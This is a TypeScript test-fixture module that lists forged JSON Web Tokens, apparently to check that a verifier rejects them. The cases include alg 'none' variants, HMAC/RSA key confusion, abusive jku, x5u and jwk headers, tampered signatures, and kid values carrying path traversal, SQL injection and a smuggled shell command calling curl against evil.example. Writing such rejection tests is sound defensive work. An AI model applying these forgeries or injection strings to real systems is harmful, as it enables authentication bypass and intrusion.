import { sign } from 'node:crypto';
import { type Attack, group, inHeader, nested } from './attack.ts';
import {
  encode,
  forge,
  forgeHmac,
  honestClaims,
  jwk,
  keys,
  NOW,
  OTHER_ISSUER,
  STRICT_ISSUER,
  withPart,
} from './forge.ts';

const honest = forge();
const [header = '', payload = ''] = honest.split('.');
const ALGORITHM = [
  ...group('wrong_algorithm', {
    ...Object.fromEntries(
      ['none', 'None', 'NONE', 'nOnE', 'none ', ''].map((alg) => [
        `the algorithm ${JSON.stringify(alg)}`,
        inHeader('alg', alg),
      ]),
    ),
    ...Object.fromEntries(
      [
        'es256',
        ' ES256',
        'ES256 ',
        'ES256\0',
        'ES256K',
        'ES257',
        'RS1',
        'RSA1_5',
        'RSA-OAEP',
        'dir',
        'A256KW',
        'A256GCM',
        'Ed448',
        'ML-DSA-65',
        'constructor',
        '__proto__',
        'toString',
      ].map((alg) => [`the algorithm ${JSON.stringify(alg)}`, inHeader('alg', alg)]),
    ),
    'HS256 with the RSA key as PEM for its secret': forgeHmac(
      'HS256',
      keys.rs256.publicKey.export({ format: 'pem', type: 'spki' }),
      'rs256',
    ),
    'HS256 with the RSA key as PKCS #1 PEM for its secret': forgeHmac(
      'HS256',
      keys.rs256.publicKey.export({ format: 'pem', type: 'pkcs1' }),
      'rs256',
    ),
    'HS256 with the RSA key as DER for its secret': forgeHmac(
      'HS256',
      keys.rs256.publicKey.export({ format: 'der', type: 'spki' }),
      'rs256',
    ),
    'HS256 with the key as JWK for its secret': forgeHmac('HS256', JSON.stringify(jwk('rs256')), 'rs256'),
    'HS256 with the Ed25519 public bytes for its secret': forgeHmac(
      'HS256',
      Buffer.from(String(jwk('eddsa').x), 'base64url'),
      'eddsa',
    ),
    'HS384 with the RSA key as PEM for its secret': forgeHmac(
      'HS384',
      keys.rs256.publicKey.export({ format: 'pem', type: 'spki' }),
      'rs256',
    ),
    'HS512 with the RSA key as PEM for its secret': forgeHmac(
      'HS512',
      keys.rs256.publicKey.export({ format: 'pem', type: 'spki' }),
      'rs256',
    ),
    'HS256 with an empty secret': forgeHmac('HS256', '', 'rs256'),
    'RS256 where the issuer allows ES256 only': { key: 'rs256', claims: { iss: STRICT_ISSUER } },
    'EdDSA where the issuer allows ES256 only': { key: 'eddsa', claims: { iss: STRICT_ISSUER } },
  }),
  ...group('wrong_header', {
    'no algorithm': inHeader('alg', undefined),
    'null for the algorithm': inHeader('alg', null),
    'a number for the algorithm': inHeader('alg', 256),
    'a list of algorithms': inHeader('alg', ['ES256']),
    'an object for the algorithm': inHeader('alg', { name: 'ES256' }),
  }),
  ...group('malformed', {
    'none, with an empty signature': `${encode('{"alg":"none"}')}.${payload}.`,
    'none, with no signature part': `${encode('{"alg":"none"}')}.${payload}`,
  }),
  ...group('unknown_key', {
    'PS256 with an RS256 key': { key: 'rs256', header: { alg: 'PS256' }, signAs: 'PS256' },
    'RS256 with a PS256 key': { key: 'ps256', header: { alg: 'RS256' }, signAs: 'RS256' },
    'RS512 with an RS256 key': { key: 'rs256', header: { alg: 'RS512' }, signAs: 'RS512' },
    'RS256 with an ES256 key': inHeader('alg', 'RS256'),
    'ES384 with an ES256 key': inHeader('alg', 'ES384'),
    'EdDSA with an ES256 key': inHeader('alg', 'EdDSA'),
    'an RSA key of 1024 bits': { key: 'weak', header: { alg: 'RS256' }, signAs: 'RS256' },
    'a key that is for encryption': { key: 'encryption' },
    'a key that may not verify': { key: 'signOnly' },
    'a key id that two keys have': { key: 'twinA', header: { alg: 'ES384', kid: 'twin' }, signAs: 'ES384' },
  }),
];

const KID = [
  ...group('unknown_key', {
    'an unknown key id': inHeader('kid', 'nobody'),
    'a key id that climbs to a file': inHeader('kid', '../../../../dev/null'),
    'a key id that is a URL': inHeader('kid', 'https://evil.example/key'),
    'a key id with SQL': inHeader('kid', "' UNION SELECT 'secret' --"),
    'a key id with a shell command': inHeader('kid', 'es256; curl evil.example'),
    'the key id __proto__': inHeader('kid', '__proto__'),
    'the key id constructor': inHeader('kid', 'constructor'),
    'the key id in capitals': inHeader('kid', 'ES256'),
    'the key id with a space after it': inHeader('kid', 'es256 '),
    'the key id with a NUL after it': inHeader('kid', 'es256\0'),
    "another issuer's key": { key: 'other', header: { alg: 'EdDSA' }, signAs: 'EdDSA' },
    "this issuer's key in another's name": { claims: { iss: OTHER_ISSUER } },
    'no key id where several keys fit': { key: 'twinA', header: { alg: 'ES384', kid: undefined }, signAs: 'ES384' },
  }),
  ...group('wrong_header', {
    'an empty key id': inHeader('kid', ''),
    'null for the key id': inHeader('kid', null),
    'a number for the key id': inHeader('kid', 1),
    'a list of key ids': inHeader('kid', ['es256']),
    'an object for the key id': inHeader('kid', { $ne: '' }),
    'a key id of 257 characters': inHeader('kid', 'k'.repeat(257)),
  }),
  ...group('too_large', { 'a key id of 10 kB': inHeader('kid', 'k'.repeat(10_000)) }),
];

const HEADER = [
  ...group('wrong_header', {
    'an address of keys (jku)': inHeader('jku', 'https://evil.example/jwks.json'),
    'an address of a certificate (x5u)': inHeader('x5u', 'https://evil.example/cert.pem'),
    'a key in the token itself (jwk)': { key: 'attackerEc', header: { kid: undefined, jwk: jwk('attackerEc') } },
    'its own key beside a good signature (jwk)': inHeader('jwk', jwk('attackerEc')),
    'a certificate chain (x5c)': inHeader('x5c', ['MIIB']),
    'the extension crit': inHeader('crit', ['exp']),
    'an empty crit': inHeader('crit', []),
    'crit with b64': { header: { crit: ['b64'], b64: false } },
    'b64 false': inHeader('b64', false),
    'b64 true': inHeader('b64', true),
    'a compressed payload (zip)': inHeader('zip', 'DEF'),
    'a nested token (cty)': inHeader('cty', 'JWT'),
    'an encryption (enc)': inHeader('enc', 'A256GCM'),
    'an ephemeral key (epk)': inHeader('epk', jwk('attackerEc')),
    'a work factor (p2c)': inHeader('p2c', 2_000_000_000),
    'the type JWE': inHeader('typ', 'JWE'),
    'the type of a logout token': inHeader('typ', 'logout+jwt'),
    'the type of a DPoP proof': inHeader('typ', 'dpop+jwt'),
    'an empty type': inHeader('typ', ''),
    'a type with a space after it': inHeader('typ', 'JWT '),
    'a number for the type': inHeader('typ', 1),
    'a list of types': inHeader('typ', ['JWT']),
    'null for the type': inHeader('typ', null),
  }),
  ...group('malformed', {
    'a header that is a list': { headerText: '["ES256"]' },
    'a header that is a text': { headerText: '"ES256"' },
    'a header that is null': { headerText: 'null' },
    'a header that is not JSON': { headerText: '{alg:ES256}' },
    'a header with text after it': { headerText: '{"alg":"ES256","kid":"es256"}x' },
    'a header with a byte order mark': { headerText: '\ufeff{"alg":"ES256","kid":"es256"}' },
    'a header that is not UTF-8': { headerText: Buffer.from('{"alg":"ES256","kid":"es256","x":"\xff"}', 'latin1') },
    'two algorithms': { headerText: '{"alg":"none","alg":"ES256","kid":"es256"}' },
    'two key ids, one escaped': { headerText: '{"alg":"ES256","\\u006bid":"twin","kid":"es256"}' },
    'a prototype in the header': { headerText: '{"alg":"ES256","kid":"es256","__proto__":{"typ":"JWT"}}' },
    'a header nested too deeply': { headerText: `{"alg":"ES256","kid":"es256","x":${nested(16)}}` },
  }),
];

const SIGNATURE = group('bad_signature', {
  'a signature of zeros': withPart(honest, 2, () => encode(Buffer.alloc(64))),
  'a signature of ones': withPart(honest, 2, () => encode(Buffer.alloc(64, 0xff))),
  'a signature with r = 0': withPart(honest, 2, (part) =>
    encode(Buffer.concat([Buffer.alloc(32), Buffer.from(part, 'base64url').subarray(32)])),
  ),
  'a signature with s = 0': withPart(honest, 2, (part) =>
    encode(Buffer.concat([Buffer.from(part, 'base64url').subarray(0, 32), Buffer.alloc(32)])),
  ),
  'a signature in DER': withPart(honest, 2, () =>
    encode(sign('sha256', Buffer.from(`${header}.${payload}`), keys.es256.privateKey)),
  ),
  'a signature one byte short': withPart(honest, 2, (part) => encode(Buffer.from(part, 'base64url').subarray(0, -1))),
  'a signature one byte long': withPart(honest, 2, (part) =>
    encode(Buffer.concat([Buffer.from(part, 'base64url'), Buffer.alloc(1)])),
  ),
  'a signature of one byte': withPart(honest, 2, () => encode(Buffer.alloc(1))),
  "an attacker's EC key under a good key id": { key: 'attackerEc', header: { kid: 'es256' } },
  "an attacker's RSA key under a good key id": {
    key: 'attackerRsa',
    header: { alg: 'RS256', kid: 'rs256' },
    signAs: 'RS256',
  },
  "an attacker's Ed25519 key under a good key id": {
    key: 'attackerEd',
    header: { alg: 'EdDSA', kid: 'eddsa' },
    signAs: 'EdDSA',
  },
  'an Ed25519 signature of zeros': withPart(forge({ key: 'eddsa' }), 2, () => encode(Buffer.alloc(64))),
  'an RSA signature of zeros': withPart(forge({ key: 'rs256' }), 2, () => encode(Buffer.alloc(256))),
  'an RSA signature of one': withPart(forge({ key: 'rs256' }), 2, () =>
    encode(Buffer.from('01'.padStart(512, '0'), 'hex')),
  ),
  'another subject under the same signature': withPart(honest, 1, () =>
    encode(JSON.stringify({ ...honestClaims(), sub: 'mallory' })),
  ),
  'a later expiry under the same signature': withPart(honest, 1, () =>
    encode(JSON.stringify({ ...honestClaims(), exp: NOW + 9999 })),
  ),
  'the same payload with another spelling': withPart(honest, 1, () =>
    encode(JSON.stringify(honestClaims(), undefined, 1)),
  ),
  'another header under the same signature': withPart(honest, 0, () => encode('{"alg":"ES256","kid":"es256"}')),
  'the signature of another token': withPart(honest, 2, () => forge({ claims: { sub: 'bob' } }).split('.')[2] ?? ''),
  'PSS padding under the name of PKCS #1': { key: 'rs256', signAs: 'PS256' },
  'PKCS #1 padding under the name of PSS': { key: 'ps256', signAs: 'RS256' },
  'SHA-384 under the name of SHA-256': { key: 'rs256', signAs: 'RS384' },
});

/** Tokens that ask for another key, for another algorithm, or for no verification at all. */
export const ATTACKS_ON_THE_KEY: readonly Attack[] = [...ALGORITHM, ...KID, ...HEADER, ...SIGNATURE];
